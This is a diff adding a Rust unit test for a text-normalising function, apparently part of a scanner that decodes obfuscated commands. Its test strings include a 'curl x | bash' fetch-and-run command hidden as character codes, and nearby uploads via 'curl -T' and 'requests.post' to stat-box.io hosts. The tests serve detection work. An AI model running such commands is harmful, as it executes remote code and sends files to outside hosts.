@@ -26,6 +26,15 @@ fn parts_of_texts_are_joined() {
 }
 
 #[test]
+fn lists_of_character_codes_are_read() {
+    assert!(plain("T = [99,117,114,108,32,120,32,124,32,98,97,115,104]").contains("curl x | bash"));
+    assert_eq!(
+        plain("T = [99, 117, 200, 108, 32, 120, 32, 124, 32, 98, 97, 115]"),
+        "T = [99, 117, 200, 108, 32, 120, 32, 124, 32, 98, 97, 115]"
+    );
+}
+
+#[test]
 fn variables_are_replaced_by_their_values() {
     assert_eq!(plain("curl -T x \"$DEST/y\""), "curl -T x \"https://files.stat-box.io/in/y\"");
     assert_eq!(plain("requests.post(SINK, data=d)"), "requests.post(\"https://in.stat-box.io/k\", data=d)");
